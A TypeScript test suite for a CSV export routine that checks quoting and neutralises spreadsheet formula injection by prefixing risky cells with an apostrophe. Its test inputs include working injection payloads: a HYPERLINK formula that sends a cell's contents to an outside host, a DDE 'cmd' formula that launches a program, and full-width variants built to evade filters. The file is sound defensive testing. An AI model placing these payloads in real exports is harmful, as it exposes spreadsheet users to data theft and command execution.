import assert from 'node:assert/strict'
import test from 'node:test'
import { parse } from 'csv-parse/sync'
import { fc } from '#test/property.ts'
import { csvOf } from './csv.ts'

type Cells = (string | number | null)[]

const textOf = async (header: Cells, ...pages: Cells[][]) => {
  const given = async function* () {
    yield* pages
  }
  const pieces: string[] = []
  for await (const piece of csvOf(header, given())) pieces.push(piece)
  return pieces.join('')
}

const one = async (cell: string) => {
  const text = await textOf(['Cell'], [[cell]])
  const [, row] = parse(text, { bom: true, relaxColumnCount: true })
  return row?.[0]
}

test('an export opens in a spreadsheet as what it holds', async () => {
  const text = await textOf(
    ['Name', 'Note', 'Amount'],
    [['王小明', 'says "hi", twice', 7]],
    [['Zoë', 'two\nlines', null]],
  )
  assert.equal(text, '\uFEFFName,Note,Amount\r\n王小明,"says ""hi"", twice",7\r\nZoë,"two\nlines",\r\n')
})

test('an export of nothing still has its header', async () => {
  assert.equal(await textOf(['Name', 'Note']), '\uFEFFName,Note\r\n')
})

const formulas = [
  '=1+1',
  '+A1',
  '-A1',
  '@SUM(A1)',
  '=HYPERLINK("http://example.com?"&A1)',
  "-5+cmd|'/C calc'!A0",
  '+886-912-345-678',
  ' =1+1',
  '\u200B=1+1',
  '\u00A0@A1',
  '＝1+1',
  '＋A1',
  '－A1',
  '＠A1',
  '"=1+1"',
  "'=1+1",
  '\tx',
  '\rx',
  '\nx',
]
for (const formula of formulas)
  test(`a spreadsheet does not calculate ${JSON.stringify(formula)}`, async () => {
    assert.equal(await one(formula), `'${formula}`)
  })

test('nor what it would take for another cell or row, where semicolons part cells', async () => {
  assert.equal(await one('a;=1+1'), "a;'=1+1")
  assert.equal(await one('a;"=1+1;b'), 'a;\'"=1+1;b')
  assert.equal(await one('a\t@A1'), "a\t'@A1")
  assert.equal(await one('a\r\n=1+1'), "a\r\n'=1+1")
})

const harmless = [
  '-5',
  '+886912345678',
  '+886 912 345 678',
  '-1,234.50',
  '-1.5E-7',
  '-3%',
  '-',
  '--',
  '-1;-2;',
]
for (const text of [...harmless, 'a=b', 'ann@example.com', '2026-01-31', 'O’Brien', "'n", 'x; y', '1-2'])
  test(`${JSON.stringify(text)} stays as it is`, async () => {
    assert.equal(await one(text), text)
  })

test('the header is as harmless as the rows', async () => {
  assert.equal(await textOf(['=1+1', 'b']), "\uFEFF'=1+1,b\r\n")
})

const cell = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.array(fc.constantFrom(...'=+-@＝＋－＠";,\'\t\r\n a5é王'), { maxLength: 8 }).map((all) => all.join('')),
)

test('whatever a cell holds, it comes back with nothing but apostrophes more, and calculates nothing', () =>
  fc.assert(
    fc.asyncProperty(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 })), async (rows) => {
      const [, ...back] = parse(await textOf(['one', 'two'], rows), { bom: true })
      assert.equal(back.length, rows.length)
      for (const [at, row] of back.entries())
        for (const [place, text] of row.entries()) {
          const given = rows[at]?.[place] ?? ''
          assert.equal(text.replaceAll("'", ''), given.replaceAll("'", ''))
          assert.ok(text.length >= given.length)
          if (/^[=@＝＋－＠]/.test(given) || /^[+-][^\d\s;+-]/.test(given)) assert.equal(text[0], "'")
        }
    }),
    { numRuns: 300 },
  ))
